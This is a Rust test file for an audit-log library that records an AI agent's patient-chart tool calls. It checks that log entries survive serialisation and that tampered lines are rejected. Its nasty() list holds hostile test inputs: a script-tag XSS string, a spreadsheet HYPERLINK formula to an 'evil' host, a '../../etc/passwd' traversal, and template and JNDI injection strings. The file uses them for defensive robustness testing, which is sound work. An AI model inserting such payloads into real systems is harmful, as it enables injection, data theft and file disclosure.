//! Entries for testing reports, parsed from their lines.

use attestlog::entry::Phase;
use attestlog::json::{Canonical, Json, Object};
use attestlog::{Call, Content, Entry, Kind, Outcome, Trigger};

const CALL: &str = r#"{
    "agent_id": "chart-agent", "arguments": {"patient_id": "P-1", "section": "medications"}, "call_id": "call_1",
    "call_trigger": "user_request", "conversation_id": "conv_1", "duration_ms": 12.5, "kind": "tool_call",
    "model": "gpt-4.1", "nonce": "07070707070707070707070707070707", "outcome": "ok", "success": true, "patient_ids": ["P-1"], "policy_seq": 1,
    "prev": "0000000000000000000000000000000000000000000000000000000000000000", "purpose": "treatment",
    "recorded_at": "2026-03-02T14:05:09.123Z", "result_summary": {"bytes": 240,
    "fields": ["allergies", "chart_id", "medications", "status"], "keys": {"chart_id": "C-9", "status": "deceased"},
    "type": "object"}, "retain_until": "2032-03-02T00:00:00Z", "retention_class": "healthcare",
    "session_metadata": {"client_ip": "10.0.1.5", "user_role": "physician"}, "timestamp": "2026-03-02T14:05:09.100Z",
    "tool_name": "get_patient_chart", "tool_server": "https://ehr.example.org/mcp", "turn_number": 2, "user_id": "dr_smith"
}"#;

fn members(text: &str) -> Object {
    let Json::Object(members) = Json::parse(text.as_bytes()).unwrap().value else { unreachable!() };
    members
}

pub(super) fn json(text: &str) -> Canonical {
    Json::from(members(text)).to_canonical()
}

/// A physician's successful read of one patient's chart, changed by `change`.
pub(super) fn call(seq: u64, change: impl FnOnce(&mut Call)) -> Entry {
    changed(entry(seq, members(CALL)), change)
}

fn changed(mut entry: Entry, change: impl FnOnce(&mut Call)) -> Entry {
    let Content::Call(call) = &mut entry.body.content else { unreachable!() };
    change(call);
    entry
}

/// The same call, failed.
pub(super) fn failed(seq: u64, outcome: Outcome) -> Entry {
    failed_with(seq, outcome, r#"{"message": "HIV positive", "type": "E42"}"#)
}

/// The same with this error.
pub(super) fn failed_with(seq: u64, outcome: Outcome, error: &str) -> Entry {
    let mut line = members(CALL);
    for gone in ["duration_ms", "result_summary"] {
        line.remove(gone);
    }
    line.insert("outcome", outcome.as_str());
    line.insert("success", false);
    line.insert("error", Json::from(members(error)));
    entry(seq, line)
}

/// The begin and end entries of one call.
pub(super) fn begun_and_finished(begun: u64, finished: u64) -> (Entry, Entry) {
    let first = call(begun, |c| {
        c.phase = Phase::Begun;
        c.completion = None;
    });
    let second = call(finished, |c| {
        c.phase = Phase::Finished(begun);
        c.timestamp = "2026-03-02T14:05:11Z".parse().unwrap();
    });
    (first, second)
}

/// A system event.
pub(super) fn own(seq: u64, kind: Kind, detail: &str) -> Entry {
    let mut line =
        members(r#"{"nonce": "07070707070707070707070707070707", "recorded_at": "2026-03-02T14:05:09.123Z"}"#);
    line.insert("kind", kind.as_str());
    line.insert("detail", Json::from(members(detail)));
    line.insert("prev", "0".repeat(64));
    entry(seq, line)
}

fn entry(seq: u64, mut line: Object) -> Entry {
    line.insert("seq", seq);
    let line = Json::from(line).to_canonical();
    Entry::from_line(line.as_str()).unwrap_or_else(|e| panic!("{e}: {line}"))
}

/// Ids that have broken some report somewhere.
pub(super) fn nasty() -> Vec<String> {
    let mut ids: Vec<String> = [
        "<script>alert(1)</script>",
        "\"quoted\" and 'quoted'",
        "two\nlines\r\nand more",
        "=HYPERLINK(\"http://evil\",\"x\")",
        "]]></td></table><h1>",
        "tab\there",
        "\u{1b}[31mred\u{7}",
        "\u{202e}gnp.exe",
        " ",
        "Ünïcödé 患者 🏥",
        "../../etc/passwd",
        "{{7*7}} ${jndi:ldap://x}",
        "Patient/1?_format=json#x",
    ]
    .map(str::to_owned)
    .to_vec();
    ids.push("x".repeat(10_000));
    ids
}

#[test]
fn entries_come_back_from_their_lines() {
    let (first, second) = begun_and_finished(1, 2);
    let full = call(3, |c| {
        c.trigger = Some(Trigger::FollowUp);
        c.follows = Some(1);
        c.emergency = true;
        c.grant = Some(9);
        c.backfilled = true;
        let source = attestlog::entry::Source::new(attestlog::entry::SourceKind::Import);
        let around = attestlog::entry::Circumstances { sources: vec![source], ..Default::default() };
        c.circumstances = around.kept();
        c.late_answer = true;
        c.restated = vec!["arguments.n".to_owned()];
        c.sender = Some(attestlog::Sender::new("s", 1));
        c.given = Some("0123456789abcdef".to_owned());
        c.patient_ids = nasty();
    });
    for entry in [first, second, full, failed(4, Outcome::Timeout), own(5, Kind::Policy, r#"{"a":1}"#)] {
        let line = entry.line();
        assert_eq!(Entry::from_line(&line).unwrap(), entry);
        for (from, to) in [("\"seq\":", "\"seq\": "), ("{", "{\"AAA\":1,"), ("\"nonce\":\"07", "\"nonce\":\"0g")] {
            assert!(Entry::from_line(&line.replacen(from, to, 1)).is_err(), "{from}");
        }
    }
    assert!(Entry::from_line("{}").is_err() && Entry::from_line("[]").is_err());
}
